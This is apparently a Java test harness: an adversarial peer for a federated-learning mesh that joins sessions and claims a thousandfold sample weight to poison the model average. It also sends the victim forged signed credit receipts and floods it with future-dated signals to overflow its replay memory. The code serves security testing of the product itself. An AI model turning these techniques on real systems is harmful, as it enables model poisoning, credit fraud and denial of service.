import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;

import org.eclipse.paho.client.mqttv3.MqttClient;
import org.eclipse.paho.client.mqttv3.MqttConnectOptions;
import org.eclipse.paho.client.mqttv3.persist.MemoryPersistence;
import org.neuromesh.api.federation.Evaluation;
import org.neuromesh.api.federation.FederatedModel;
import org.neuromesh.api.federation.GlobalState;
import org.neuromesh.api.federation.LocalContribution;
import org.neuromesh.api.federation.LocalData;
import org.neuromesh.api.federation.SessionPlan;
import org.neuromesh.api.peer.PeerId;
import org.neuromesh.api.peer.PeerInfo;
import org.neuromesh.api.peer.PeerListener;
import org.neuromesh.api.peer.SignedControlMessage;
import org.neuromesh.crypto.IdentityStore;
import org.neuromesh.crypto.MessageSecurity;
import org.neuromesh.crypto.PeerIdentity;
import org.neuromesh.crypto.SecurityLimits;
import org.neuromesh.crypto.TimeWindows;
import org.neuromesh.crypto.WireFormat;
import org.neuromesh.discovery.mqtt.MqttSettings;
import org.neuromesh.discovery.mqtt.MqttTransport;
import org.neuromesh.peer.CapsuleSender;
import org.neuromesh.peer.Inbox;
import org.neuromesh.peer.MemberPresence;
import org.neuromesh.peer.SessionListener;
import org.neuromesh.peer.Sessions;

/**
 * ATTACK TOOL for the product tests, not a product: a peer with a valid key, announced like any other, that turns
 * hostile. It is built from the product's own classes (identity, signing, the MQTT transport, the session protocol),
 * so everything it sends verifies. It joins the sessions it hears of on its data set and, each round,
 * <ul>
 * <li>claims a thousand times the training the plan allows a member, to buy a thousandfold weight in the average;</li>
 * </ul>
 * and once, after its first claim, it sends the victim
 * <ul>
 * <li>RECEIPTS signed receipts for node packets the victim never lent it, at 1,000 credits each;</li>
 * <li>FLOOD error signals dated 25 s ahead (inside the victim's window, so each is remembered against replay),
 * on a second connection as fast as the broker takes them, to push the victim's replay memory over;</li>
 * <li>FAR error signals dated an hour ahead.</li>
 * </ul>
 * It ends when its session ends. Run as a source-file program with the product's jars:
 *
 * <pre>java -cp api.jar:crypto.jar:discovery.mqtt.jar:peer.jar:paho.jar HostileMember.java URI USER PASSWORD
 *     TOPIC_ROOT HOME DATASET VICTIM FLOOD FAR RECEIPTS</pre>
 */
public class HostileMember {

    private static final long CLAIM_FACTOR = 1000;

    public static void main(String[] args) throws Exception {
        URI broker = URI.create(args[0]);
        String user = args[1];
        String password = args[2];
        String root = args[3];
        Path home = Path.of(args[4]);
        String dataset = args[5];
        PeerId victim = new PeerId(args[6]);
        int flood = Integer.parseInt(args[7]);
        int far = Integer.parseInt(args[8]);
        int receipts = Integer.parseInt(args[9]);

        PeerIdentity identity = new IdentityStore(home.resolve("identity"), new SecureRandom()).loadOrCreate();
        MessageSecurity security = new MessageSecurity(identity, Clock.systemUTC(), TimeWindows.defaults(),
                SecurityLimits.defaults());
        MqttSettings settings = MqttSettings.builder().host(broker.getHost()).port(broker.getPort())
                .credentials(user, password.toCharArray()).topicRoot(root).displayName("hostile")
                .capabilities(Set.of("learner")).outboxDirectory(home.resolve("outbox")).build();
        ScheduledExecutorService timers = Executors.newSingleThreadScheduledExecutor();
        ExecutorService work = Executors.newSingleThreadExecutor();
        CountDownLatch firstClaim = new CountDownLatch(1);
        CountDownLatch ended = new CountDownLatch(1);
        try (MqttTransport transport = MqttTransport.start(settings, security)) {
            Inbox inbox = new Inbox(security);
            CapsuleSender sender = new CapsuleSender(security, transport.messaging(), Clock.systemUTC());
            new Sessions(new GreedyModel(dataset, firstClaim, ended), sender, inbox, timers, work,
                    SessionListener.NONE, true, new MemberPresence(peer -> true, Duration.ofSeconds(20)));
            transport.messaging().subscribe(inbox);
            transport.discovery().addListener(new PeerListener() {
                @Override
                public void peerAppeared(PeerInfo peer) {
                    System.out.println("sees peer " + peer.id().shortForm());
                    timers.execute(() -> inbox.senderKnown(peer.id()));
                }

                @Override
                public void peerLeft(PeerId peer) {
                }
            });
            System.out.println("hostile member " + identity.id().value() + " ready");
            if (!firstClaim.await(2, TimeUnit.MINUTES)) {
                throw new IllegalStateException("no session to join on " + dataset + " within 2 minutes; refused: "
                        + inbox.rejections().snapshot() + ", by the transport: " + transport.rejections().snapshot());
            }
            for (int i = 0; i < receipts; i++) {
                sender.control("nodes.receipt", victim, receipt(UUID.randomUUID().toString(),
                        "packet-" + UUID.randomUUID(), 1000));
            }
            System.out.printf("sent %d forged receipts of 1000 credits to %s%n", receipts, victim.shortForm());
            floodFutureDated(identity, broker, user, password, root, victim, flood, Duration.ofSeconds(25));
            floodFutureDated(identity, broker, user, password, root, victim, far, Duration.ofHours(1));
            System.out.printf("sent %d signals dated 25 s ahead and %d dated an hour ahead to %s%n", flood, far,
                    victim.shortForm());
            if (!ended.await(10, TimeUnit.MINUTES)) {
                throw new IllegalStateException("the session did not end within 10 minutes");
            }
            System.out.println("hostile member done: its session ended");
        } finally {
            timers.shutdownNow();
            work.shutdownNow();
        }
    }

    /** Signals signed by this peer with a clock {@code ahead} of time, published on a connection of their own. */
    private static void floodFutureDated(PeerIdentity identity, URI broker, String user, String password, String root,
            PeerId victim, int count, Duration ahead) throws Exception {
        MessageSecurity future = new MessageSecurity(identity, Clock.offset(Clock.systemUTC(), ahead),
                TimeWindows.defaults(), SecurityLimits.defaults());
        WireFormat format = new WireFormat(WireFormat.DEFAULT_MAX_MESSAGE_BYTES);
        MqttClient client = new MqttClient("tcp://" + broker.getHost() + ":" + broker.getPort(),
                "hostile-flood-" + System.nanoTime(), new MemoryPersistence());
        MqttConnectOptions options = new MqttConnectOptions();
        options.setUserName(user);
        options.setPassword(password.toCharArray());
        options.setCleanSession(true);
        options.setMaxInflight(1000);
        client.connect(options);
        client.setTimeToWait(60_000);
        String topic = root + "/inbox/" + victim.value();
        for (int i = 0; i < count; i++) {
            SignedControlMessage message = future.sign("signal.error", victim, signal(0.0, 0.0, "hostile-" + i));
            client.publish(topic, format.encode(message), 1, false);
        }
        client.disconnect();
        client.close();
    }

    /** The body of an error signal, as the product writes it. */
    private static byte[] signal(double value, double urgency, String topic) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(bytes)) {
            out.writeDouble(value);
            out.writeDouble(urgency);
            out.writeUTF(topic);
        }
        return bytes.toByteArray();
    }

    /** The body of a node receipt, as the product writes it. */
    private static byte[] receipt(String requestId, String packetId, long price) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(bytes)) {
            out.writeUTF(requestId);
            out.writeUTF(packetId);
            out.writeLong(price);
        }
        return bytes.toByteArray();
    }

    /**
     * A member that trains nothing and hands the global model back each round, claiming a thousand times the samples
     * the plan allows.
     */
    private static final class GreedyModel implements FederatedModel {

        private final String dataset;
        private final CountDownLatch firstClaim;
        private final CountDownLatch ended;

        GreedyModel(String dataset, CountDownLatch firstClaim, CountDownLatch ended) {
            this.dataset = dataset;
            this.firstClaim = firstClaim;
            this.ended = ended;
        }

        @Override
        public LocalData localData() {
            return new LocalData(dataset, new TreeSet<>(Set.of(0, 1)), 1000, 100);
        }

        @Override
        public GlobalState start(SessionPlan plan) {
            throw new UnsupportedOperationException("a hostile member aggregates nothing");
        }

        @Override
        public LocalContribution train(SessionPlan plan, GlobalState global, BooleanSupplier stop) {
            long allowed = (long) plan.localSteps() * plan.batchSize();
            System.out.printf("claiming %d samples for round %d, the plan allows %d%n", allowed * CLAIM_FACTOR,
                    global.round() + 1, allowed);
            firstClaim.countDown();
            return new LocalContribution(global.round() + 1, global.model(), global.modulation(),
                    allowed * CLAIM_FACTOR, 0.01);
        }

        @Override
        public GlobalState merge(SessionPlan plan, GlobalState previous, List<LocalContribution> contributions,
                int members) {
            throw new UnsupportedOperationException("a hostile member aggregates nothing");
        }

        @Override
        public Evaluation evaluate(SessionPlan plan, byte[] model) {
            return new Evaluation(0.0, new double[10], 1);
        }

        @Override
        public byte[] trainAlone(SessionPlan plan, int maxPasses, BooleanSupplier stop) {
            return new byte[] { 0 };
        }

        @Override
        public void sessionEnded(String sessionId) {
            ended.countDown();
        }
    }
}
